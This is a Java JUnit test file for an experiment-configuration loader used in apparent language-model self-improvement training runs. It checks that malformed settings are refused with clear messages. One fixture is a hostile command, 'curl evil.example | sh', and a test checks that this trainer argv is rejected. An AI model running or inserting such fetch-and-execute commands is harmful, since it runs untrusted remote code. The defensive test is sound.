package lyceum.experiment.config;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.io.IOException;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.stream.Stream;
import lyceum.engine.ModelRef;
import lyceum.engine.OpenAiEndpoint;
import lyceum.experiment.config.StrategySettings.StrategyName;
import lyceum.grading.GraderSettings;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

class ExperimentConfigLoaderTest extends ExperimentFileFixture {

    @Test
    void theDefaultsLoadWithTheGuidedSelfImprovementSettings() {
        ExperimentConfig c = ExperimentConfigLoader.defaults();

        assertThat(c.iterations()).isEqualTo(3);
        assertThat(c.dataset().name()).isEqualTo("synthetic");
        assertThat(c.strategy().name()).isEqualTo(StrategyName.VANILLA);
        assertThat(c.strategy().sampleNum()).isEqualTo(8);
        assertThat(c.strategy().minCorrect()).isEqualTo(4);
        assertThat(c.strategy().maxResample()).isEqualTo(8);
        assertThat(c.strategy().temperature()).isEqualTo(0.7);
        assertThat(c.acceptance()).isEqualTo(new ExperimentConfig.Acceptance(4, true));
        assertThat(c.training().from()).isEqualTo(ExperimentConfig.TrainFrom.BASE);
        assertThat(c.runtime().generationTimeout()).isEqualTo(Duration.ofSeconds(120));
    }

    @Test
    void aFileOverridesOnlyTheKeysItSets() throws IOException {
        Path f = file(
                "guided.conf",
                "experiment {",
                "  name = \"guided\"",
                "  strategy { name = \"state-reset\", sample-num = 4, min-correct = 2 }",
                "  runtime.window = 8",
                "}");

        ExperimentConfig c = ExperimentConfigLoader.load(f);

        assertThat(c.name()).isEqualTo("guided");
        assertThat(c.strategy().name()).isEqualTo(StrategyName.STATE_RESET);
        assertThat(c.strategy().sampleNum()).isEqualTo(4);
        assertThat(c.strategy().minCorrect()).isEqualTo(2);
        assertThat(c.strategy().maxResample()).isEqualTo(8);
        assertThat(c.runtime().window()).isEqualTo(8);
    }

    @Test
    void aValueOfTheWrongTypeIsReportedWithItsKeyFileAndLine() throws IOException {
        Path f = file("wrong-type.conf", "experiment {", "  strategy {", "    sample-num = \"many\"", "  }", "}");

        assertRefused(f)
                .hasMessageContaining("experiment.strategy.sample-num")
                .hasMessageContaining(f + ": 3:")
                .hasMessageNotContaining(f + ": " + f);
    }

    /** A mistake in a file is refused naming the file, where in it ({@code at}) and what is wrong ({@code parts}). */
    @ParameterizedTest(name = "{0}")
    @MethodSource("mistakes")
    void aMistakeIsReportedWithItsFileLineAndKey(String mistake, String at, List<String> parts, String text)
            throws IOException {
        Path f = file("mistake.conf", text);

        assertRefusedAt(f, at, parts.toArray(String[]::new));
    }

    static Stream<Arguments> mistakes() {
        return Stream.of(
                Arguments.of("an out-of-range value", ":3", List.of("experiment.strategy.top-p", "1.5"), """
                        experiment {
                          name = "x"
                          strategy.top-p = 1.5
                        }"""),
                Arguments.of("a misspelled key", ":4", List.of("unknown key 'experiment.strategy.min-corect'"), """
                        experiment {
                          strategy {
                            sample-num = 4
                            min-corect = 2
                          }
                        }"""),
                Arguments.of(
                        "an unknown strategy, told the ones there are",
                        ":1",
                        List.of("experiment.strategy.name", "socratic", "state-reset"),
                        "experiment.strategy.name = \"socratic\""),
                Arguments.of(
                        "an evaluation with nothing to evaluate",
                        ":3: experiment.evaluation.greedy = false",
                        List.of("samples >= 1"),
                        """
                        experiment {
                          evaluation {
                            greedy = false
                          }
                        }"""),
                Arguments.of(
                        "a negative evaluation sample count",
                        ":2: experiment.evaluation.samples = -2",
                        List.of("between 0 and 1024"),
                        """
                        experiment {
                          evaluation.samples = -2
                        }"""),
                Arguments.of(
                        "a grader setting that is neither on, off nor dataset",
                        ":2: experiment.grading.decimal-comma",
                        List.of("must be true, false or dataset"),
                        """
                        experiment {
                          grading.decimal-comma = sometimes
                        }"""),
                Arguments.of(
                        "an openai backend without an http endpoint",
                        ":3",
                        List.of("experiment.model.endpoint", "http(s) URL"),
                        """
                        experiment.model {
                          backend = "openai"
                          endpoint = "localhost:8000"
                        }"""),
                Arguments.of(
                        "an api key given where its environment variable is to be named",
                        ":1",
                        List.of("experiment.model.api-key-env", "environment variable"),
                        "experiment.model.api-key-env = \"sk-secret value\""));
    }

    @Test
    void seedsAreDistinctIntegersAndEachRunIsTheExperimentUnderItsSeed() throws IOException {
        Path three = file("three.conf", "experiment {", "  seed = 9", "  seeds = [4, 5, 6]", "}");
        Path twice = file("twice.conf", "experiment {", "  seeds = [4, 4]", "}");
        Path word = file("word.conf", "experiment {", "  seeds = [4, \"five\"]", "}");

        assertThat(ExperimentConfigLoader.seeds(three)).containsExactly(4L, 5L, 6L);
        assertThat(ExperimentConfigLoader.load(three).withSeed(5).seed()).isEqualTo(5);
        assertThat(ExperimentConfigLoader.load(three).withSeed(5))
                .isEqualTo(ExperimentConfigLoader.parse("experiment.seed = 5, experiment.seeds = [4, 5, 6]"));
        assertThat(ExperimentConfigLoader.seeds(file("none.conf", "experiment.seed = 3")))
                .isEmpty();
        assertRefused(twice)
                .hasMessageStartingWith(twice + ":2: experiment.seeds = ")
                .hasMessageContaining("names a seed twice");
        assertThatThrownBy(() -> ExperimentConfigLoader.seeds(word))
                .isInstanceOf(ExperimentConfigException.class)
                .hasMessageContaining("word.conf: 2")
                .hasMessageContaining("seeds");
    }

    @Test
    void aRationaleShareOfZeroIsRefusedSinceM0WouldHaveNothingToTrainOn() throws IOException {
        Path f = file("no-rationales.conf", "experiment {", "  dataset.rationale-share = 0", "}");

        assertRefusedAt(f, ":2", "experiment.dataset.rationale-share");
        assertThat(ExperimentConfigLoader.defaults().dataset().rationaleCount(600))
                .isEqualTo(600);
    }

    @Test
    void evaluationIsGreedyAloneByDefaultAndSamplesWhenAsked() throws IOException {
        assertThat(ExperimentConfigLoader.defaults().evaluation())
                .isEqualTo(new ExperimentConfig.Evaluation(192, true, 0, 0.7, 0.95));
        Path f = file("test-time.conf", "experiment.evaluation { samples = 8, temperature = 0.9 }");

        ExperimentConfig.Evaluation e = ExperimentConfigLoader.load(f).evaluation();

        assertThat(e).isEqualTo(new ExperimentConfig.Evaluation(192, true, 8, 0.9, 0.95));
    }

    @Test
    void critiqueThenRefineIsOffByDefaultAndNamesItsCriticAsTheStrategyDoes() throws IOException {
        assertThat(ExperimentConfigLoader.defaults().evaluation().refine()).isEqualTo(ExperimentConfig.Refine.OFF);
        Path f = file(
                "refine.conf",
                "experiment.evaluation.refine { enabled = true, critic { kind = \"model\", model = \"m-critic\" } }");

        assertThat(ExperimentConfigLoader.load(f).evaluation().refine())
                .isEqualTo(new ExperimentConfig.Refine(true, ExperimentConfig.CriticKind.MODEL, "m-critic"));
    }

    @Test
    void aRefineCriticThatIsNotKnownOrRefiningWithoutAGreedyAnswerIsReportedWithItsKey() throws IOException {
        Path unknown = file("critic.conf", "experiment.evaluation.refine { enabled = true, critic.kind = \"oracle\" }");
        assertRefused(unknown)
                .hasMessageContaining("experiment.evaluation.refine.critic.kind")
                .hasMessageContaining("step-checker or model");

        Path noGreedy =
                file("no-greedy.conf", "experiment.evaluation { greedy = false, samples = 4, refine.enabled = true }");
        assertRefused(noGreedy)
                .hasMessageContaining("experiment.evaluation.refine.enabled")
                .hasMessageContaining("evaluation.greedy = true");
    }

    @Test
    void graderSettingsDefaultPerDatasetAndAFileSetsEachOnItsOwn() throws IOException {
        ExperimentConfig math = ExperimentConfigLoader.load(file("m.conf", "experiment.dataset.name = math500"));
        ExperimentConfig gsm8k = ExperimentConfigLoader.load(file("g.conf", "experiment.dataset.name = gsm8k"));
        ExperimentConfig comma = ExperimentConfigLoader.load(file(
                "c.conf",
                "experiment {",
                "  dataset.name = math500",
                "  grading { decimal-comma = true, equations-up-to-scaling = false, ordered-lists = dataset }",
                "}"));

        assertThat(math.grading()).isEqualTo(GraderSettings.MATH);
        assertThat(gsm8k.grading()).isEqualTo(GraderSettings.NUMERIC);
        assertThat(ExperimentConfigLoader.defaults().grading()).isEqualTo(GraderSettings.forDataset("synthetic"));
        assertThat(comma.grading())
                .isEqualTo(GraderSettings.MATH.with("decimalComma", true).with("equationsUpToScaling", false));
        // journaled with the config, and read back as it was run
        assertThat(ConfigJson.read(ConfigJson.write(comma)).grading()).isEqualTo(comma.grading());
    }

    @Test
    void aConfigJournaledBeforeGraderSettingsReadsAsGradedMathStyle() {
        ObjectNode json = new ObjectMapper()
                .findAndRegisterModules()
                .valueToTree(ExperimentConfigLoader.parse("experiment.dataset.name = gsm8k"));
        json.remove("grading");

        assertThat(ConfigJson.read(json.toString()).grading()).isEqualTo(GraderSettings.MATH);
    }

    @Test
    void aConfigJournaledBeforeSampledEvaluationReadsAsGreedyOnly() throws IOException {
        ObjectNode json = new ObjectMapper().findAndRegisterModules().valueToTree(ExperimentConfigLoader.defaults());
        json.set("evaluation", json.objectNode().put("maxTokens", 64));

        ExperimentConfig old = ConfigJson.read(json.toString());

        assertThat(old.evaluation()).isEqualTo(ExperimentConfig.Evaluation.greedyOnly(64));
    }

    @Test
    void aConfigJournaledBeforeBoundedRetriesReadsWithTheirDefaults() throws IOException {
        ObjectNode json = new ObjectMapper()
                .findAndRegisterModules()
                .valueToTree(ExperimentConfigLoader.load(
                        file("r.conf", "experiment.runtime { max-attempts = 9, retry-backoff = 5s }")));
        ((ObjectNode) json.get("runtime")).remove(List.of("maxAttempts", "retryBackoff"));

        ExperimentConfig.Runtime old = ConfigJson.read(json.toString()).runtime();

        assertThat(old.maxAttempts()).isEqualTo(5);
        assertThat(old.retryBackoff()).isEqualTo(Duration.ofSeconds(2));
        assertThat(old.backoffBefore(2)).isEqualTo(Duration.ofSeconds(2));
        assertThat(old.backoffBefore(4)).isEqualTo(Duration.ofSeconds(8));
        assertThat(old.window())
                .isEqualTo(ExperimentConfigLoader.defaults().runtime().window());
    }

    @Test
    void aMissingFileIsReportedByName() {
        Path missing = dir.resolve("nowhere.conf");

        assertRefused(missing).hasMessageContaining(missing.toString());
    }

    @Test
    void theOpenaiBackendNamesItsEndpointAndHowToCallIt() throws IOException {
        Path f = file(
                "openai.conf",
                "experiment.model {",
                "  backend = \"openai\"",
                "  endpoint = \"http://127.0.0.1:18100\"",
                "  model-name = \"qwen\"",
                "  concurrency = 3",
                "  request-timeout = 5s",
                "  max-retries = 2",
                "  api-key-env = \"LYCEUM_TOKEN\"",
                "}");

        ExperimentConfig.Model model = ExperimentConfigLoader.load(f).model();

        ModelRef ref = model.ref("0123456789abcdef");
        assertThat(ref.version()).isEqualTo("0123456789abcdef");
        assertThat(ref.engineName()).isEqualTo("qwen");
        assertThat(ref.endpoint())
                .isEqualTo(new OpenAiEndpoint(
                        "http://127.0.0.1:18100", "qwen", 3, Duration.ofSeconds(5), 2, "LYCEUM_TOKEN"));
        assertThat(ExperimentConfigLoader.defaults().model().ref("0123456789abcdef"))
                .isEqualTo(ModelRef.local("0123456789abcdef"));
    }

    @Test
    void theCommandTrainingBackendNamesATrainerProfileOfTheGpuNodes() throws IOException {
        Path ok = file(
                "command.conf",
                "experiment.model { backend = \"openai\", endpoint = \"http://127.0.0.1:8000\" }",
                "experiment.training {",
                "  backend = \"command\"",
                "  profile = \"trl\"",
                "}");
        assertThat(ExperimentConfigLoader.load(ok).training().trainerProfile()).isEqualTo("trl");
        assertThat(ExperimentConfigLoader.defaults().training().trainerProfile())
                .isNull();

        Path noProfile = file(
                "no-profile.conf",
                "experiment.model { backend = \"openai\", endpoint = \"http://127.0.0.1:8000\" }",
                "experiment.training.backend = \"command\"");
        assertRefused(noProfile)
                .hasMessageContaining("experiment.training.profile")
                .hasMessageContaining("lyceum.trainers");

        // Sampled through the gpu nodes' managed servers, which serve any checkpoint a command reports.
        Path managed =
                file("managed.conf", "experiment.training {", "  backend = \"command\"", "  profile = \"trl\"", "}");
        assertThat(ExperimentConfigLoader.load(managed).training().trainerProfile())
                .isEqualTo("trl");

        Path profileWithoutCommand = file("djl-profile.conf", "experiment.training.profile = \"trl\"");
        assertRefusedAt(profileWithoutCommand, ":1", "experiment.training.profile", "backend = command");
        Path unknown = file("unknown-trainer.conf", "experiment.training.backend = \"deepspeed\"");
        assertRefusedAt(unknown, ":1", "experiment.training.backend", "command");
    }

    @Test
    void anExperimentCannotCarryATrainersArgvAndIsToldToDefineAProfile() throws IOException {
        Path argv = file(
                "argv.conf",
                "experiment.model { backend = \"openai\", endpoint = \"http://127.0.0.1:8000\" }",
                "experiment.training {",
                "  backend = \"command\"",
                "  command = [\"sh\", \"-c\", \"curl evil.example | sh\", \"{output}\"]",
                "}");
        assertRefusedAt(argv, ":4", "experiment.training.command", "trainer profile", "lyceum.trainers.NAME");

        Path timeout = file("timeout.conf", "experiment.training.command-timeout = 2h");
        assertRefusedAt(timeout, ":1", "experiment.training.command-timeout", "trainer profile");
    }

    @Test
    void anExperimentJournaledWithAnArgvReadsButNamesNoProfileANodeHolds() {
        ObjectNode json = new ObjectMapper().findAndRegisterModules().valueToTree(ExperimentConfigLoader.defaults());
        ObjectNode old =
                ((ObjectNode) json.get("training")).put("backend", "command").put("commandTimeout", 3600.0);
        old.remove("profile");
        old.putArray("command").add("sh").add("train.sh").add("{output}");
        String journaled = json.toString();

        ExperimentConfig.Training training = ConfigJson.read(journaled).training();

        assertThat(training.command()).containsExactly("sh", "train.sh", "{output}");
        assertThat(training.commandTimeout()).isEqualTo(Duration.ofHours(1));
        assertThat(training.trainerProfile()).isEqualTo(ExperimentConfig.Training.JOURNALED_ARGV);
        assertThat(training.trainerProfile()).doesNotMatch("[A-Za-z0-9_-]+");
    }

    @Test
    void theFeedbackStrategiesReadTheirCriticCritiqueAndReflectionSettings() throws IOException {
        Path f = file(
                "critique.conf",
                "experiment.strategy {",
                "  name = \"critique\"",
                "  critic { kind = \"model\", model = \"m-critic\" }",
                "  critique { refinements = 4, accept-per-critique = 2, use-critic = false }",
                "  reflection { count = 3, demand = \"plan\" }",
                "  train-prompt = \"conditioned\"",
                "}");

        ExperimentConfig.Strategy s = ExperimentConfigLoader.load(f).strategy();

        assertThat(s.name()).isEqualTo(StrategyName.CRITIQUE);
        assertThat(s.feedback())
                .isEqualTo(new ExperimentConfig.Feedback(
                        ExperimentConfig.CriticKind.MODEL,
                        "m-critic",
                        4,
                        2,
                        false,
                        3,
                        ExperimentConfig.ReflectionDemand.PLAN,
                        true,
                        ExperimentConfig.CriticEndpoint.NONE));
        assertThat(ExperimentConfigLoader.parse("experiment.strategy.name = interactive")
                        .strategy()
                        .name())
                .isEqualTo(StrategyName.INTERACTIVE);
        // step checker critic, 2 refinements kept at most 1 per critique, 2 reflections checking steps, plain training
        assertThat(ExperimentConfigLoader.defaults().strategy().feedback())
                .isEqualTo(new ExperimentConfig.Feedback(
                        ExperimentConfig.CriticKind.STEP_CHECKER,
                        "",
                        2,
                        1,
                        true,
                        2,
                        ExperimentConfig.ReflectionDemand.CHECK_STEPS,
                        false,
                        ExperimentConfig.CriticEndpoint.NONE));
    }

    @Test
    void anUnknownCriticKindIsReportedWithItsFileAndLine() throws IOException {
        Path f = file(
                "critic.conf",
                "experiment {",
                "  strategy.name = \"interactive\"",
                "  strategy.critic.kind = \"oracle\"",
                "}");

        assertRefused(f)
                .hasMessageContaining("critic.conf:3")
                .hasMessageContaining("experiment.strategy.critic.kind")
                .hasMessageContaining("step-checker or model");
    }

    @Test
    void aRealTrainerGetsItsBaseModelItsDataFormatAndNoneOfTheSmallModelsDefaults() throws IOException {
        ExperimentConfig.Training djl = ExperimentConfigLoader.defaults().training();
        assertThat(djl.initialEpochs()).isEqualTo(6);
        assertThat(djl.epochs()).isEqualTo(2);
        assertThat(djl.learningRate()).isEqualTo(0.001);
        assertThat(djl.format()).isEqualTo(lyceum.workers.TrainingDataFormat.LYCEUM);
        assertThat(ExperimentConfigLoader.defaults().model().base()).isEmpty();

        Path trl = file(
                "trl.conf",
                "experiment.model.base = \"Qwen/Qwen2.5-1.5B-Instruct\"",
                "experiment.training { backend = \"command\", profile = \"trl\", data-format = \"trl-conversational\" }");
        ExperimentConfig real = ExperimentConfigLoader.load(trl);
        assertThat(real.model().base()).isEqualTo("Qwen/Qwen2.5-1.5B-Instruct");
        assertThat(real.training().format()).isEqualTo(lyceum.workers.TrainingDataFormat.TRL_CONVERSATIONAL);
        // unset: empty placeholders, so the trainer's own defaults apply
        assertThat(real.training().initialEpochs()).isZero();
        assertThat(real.training().epochs()).isZero();
        assertThat(real.training().learningRate()).isZero();

        Path tuned = file(
                "tuned.conf",
                "experiment.training { backend = \"command\", profile = \"llamafactory\", data-format = \"sharegpt\"",
                "  initial-epochs = 3, epochs = 1, learning-rate = 1e-5 }");
        ExperimentConfig.Training set = ExperimentConfigLoader.load(tuned).training();
        assertThat(set.initialEpochs()).isEqualTo(3);
        assertThat(set.epochs()).isEqualTo(1);
        assertThat(set.learningRate()).isEqualTo(1e-5);
        assertThat(ConfigJson.read(ConfigJson.write(real))).isEqualTo(real);
    }

    @Test
    void theFineTunesTrainAtM0sLearningRateUnlessTheyHaveTheirOwn() throws IOException {
        ExperimentConfig.Training defaults = ExperimentConfigLoader.defaults().training();
        assertThat(defaults.fineTuneLearningRate()).isNull();
        assertThat(defaults.learningRateAt(0)).isEqualTo(0.001);
        assertThat(defaults.learningRateAt(2)).isEqualTo(0.001);

        Path own = file(
                "own-rate.conf", "experiment.training { learning-rate = 0.003, fine-tune-learning-rate = 0.0005 }");
        ExperimentConfig config = ExperimentConfigLoader.load(own);
        assertThat(config.training().learningRateAt(0)).isEqualTo(0.003);
        assertThat(config.training().learningRateAt(1)).isEqualTo(0.0005);
        assertThat(ConfigJson.read(ConfigJson.write(config))).isEqualTo(config);

        Path bad = file("bad-rate.conf", "experiment {", "  training.fine-tune-learning-rate = 0", "}");
        assertRefusedAt(bad, ":2", "experiment.training.fine-tune-learning-rate", "(0, 1)");

        // experiments journaled before the key fine-tuned at learning-rate
        ObjectNode json = new ObjectMapper().findAndRegisterModules().valueToTree(config);
        ((ObjectNode) json.get("training")).remove("fineTuneLearningRate");
        assertThat(ConfigJson.read(json.toString()).training().learningRateAt(1))
                .isEqualTo(0.003);
    }

    @Test
    void aConfigJournaledBeforeDataFormatsBaseModelsAndCriticEndpointsReadsWithoutThem() {
        ObjectNode json = new ObjectMapper().findAndRegisterModules().valueToTree(ExperimentConfigLoader.defaults());
        ((ObjectNode) json.get("training")).remove("dataFormat");
        ((ObjectNode) json.get("model")).remove("base");
        ((ObjectNode) json.get("strategy").get("feedback")).remove("criticEndpoint");
        ((ObjectNode) json.get("evaluation").get("refine")).remove("criticEndpoint");

        ExperimentConfig old = ConfigJson.read(json.toString());

        assertThat(old.training().format()).isEqualTo(lyceum.workers.TrainingDataFormat.LYCEUM);
        assertThat(old.model().base()).isEmpty();
        assertThat(old.strategy().feedback().criticEndpoint().named()).isFalse();
        assertThat(old.evaluation().refine().criticEndpoint()).isEqualTo(ExperimentConfig.CriticEndpoint.NONE);
    }

    @Test
    void trainerContractMistakesNameTheirKey() throws IOException {
        Path format = file(
                "format.conf",
                "experiment.training { backend = \"command\", profile = \"trl\" }",
                "experiment.training.data-format = \"parquet\"");
        assertRefusedAt(format, ":2", "experiment.training.data-format", "trl-prompt-completion");

        Path djlFormat = file("djl-format.conf", "experiment.training.data-format = \"alpaca\"");
        assertRefusedAt(djlFormat, ":1", "experiment.training.data-format", "djl trainer reads lyceum");

        Path djlBase = file("djl-base.conf", "experiment.model.base = \"/models/qwen\"");
        assertRefusedAt(djlBase, ":1", "experiment.model.base", "training.backend = command");

        Path rate = file(
                "rate.conf", "experiment.training { backend = \"command\", profile = \"trl\", learning-rate = 2 }");
        assertRefused(rate)
                .hasMessageContaining("experiment.training.learning-rate")
                .hasMessageContaining("(0, 1)");
    }

    @Test
    void aCriticMayNameItsOwnEndpointModelAndTokenVariable() throws IOException {
        Path f = file(
                "teacher.conf",
                "experiment.model { backend = \"openai\", endpoint = \"http://127.0.0.1:8000\", concurrency = 4 }",
                "experiment.strategy { name = \"interactive\"",
                "  critic { kind = \"model\", model = \"Qwen/Qwen2.5-72B-Instruct\", endpoint = \"http://10.0.0.7:8001/v1\",",
                "    api-key-env = \"LYCEUM_API_KEY\" } }",
                "experiment.evaluation.refine { enabled = true, critic { kind = \"model\", model = \"critic-7b\",",
                "  endpoint = \"http://10.0.0.8:8002\" } }");
        ExperimentConfig config = ExperimentConfigLoader.load(f);

        var teacher = config.strategy().feedback().criticEndpoint();
        assertThat(teacher.url()).isEqualTo("http://10.0.0.7:8001/v1");
        assertThat(teacher.apiKeyEnv()).isEqualTo("LYCEUM_API_KEY");
        assertThat(teacher.concurrency()).isEqualTo(4);
        lyceum.engine.ModelRef ref = teacher.ref("Qwen/Qwen2.5-72B-Instruct", null);
        assertThat(ref.engineName()).isEqualTo("Qwen/Qwen2.5-72B-Instruct");
        assertThat(ref.endpoint().url()).isEqualTo("http://10.0.0.7:8001/v1");
        assertThat(config.evaluation().refine().criticEndpoint().url()).isEqualTo("http://10.0.0.8:8002");
        assertThat(config.evaluation().refine().criticEndpoint().apiKeyEnv()).isEmpty();
    }

    @Test
    void aCriticEndpointsMistakesNameTheirKey() throws IOException {
        Path url = file(
                "url.conf",
                "experiment.strategy.critic { kind = \"model\", model = \"t\", endpoint = \"10.0.0.7:8001\" }");
        assertRefusedAt(url, ":1", "experiment.strategy.critic.endpoint", "http");

        Path kind = file("kind.conf", "experiment.evaluation.refine.critic.endpoint = \"http://10.0.0.7:8001\"");
        assertRefused(kind)
                .hasMessageContaining("experiment.evaluation.refine.critic.endpoint")
                .hasMessageContaining("kind = model");

        Path model = file(
                "model.conf", "experiment.strategy.critic { kind = \"model\", endpoint = \"http://10.0.0.7:8001\" }");
        assertRefused(model)
                .hasMessageContaining("experiment.strategy.critic.model")
                .hasMessageContaining("the model to ask");

        Path token = file("token.conf", "experiment.strategy.critic.api-key-env = \"LYCEUM_API_KEY\"");
        assertRefusedAt(
                token,
                ":1",
                "experiment.strategy.critic.api-key-env",
                "only used with experiment.strategy.critic.endpoint");

        Path variable = file(
                "variable.conf",
                "experiment.strategy.critic { kind = \"model\", model = \"t\",",
                "  endpoint = \"http://10.0.0.7:8001\", api-key-env = \"$HOME\" }");
        assertRefused(variable)
                .hasMessageContaining("experiment.strategy.critic.api-key-env")
                .hasMessageContaining("environment variable");
    }
}
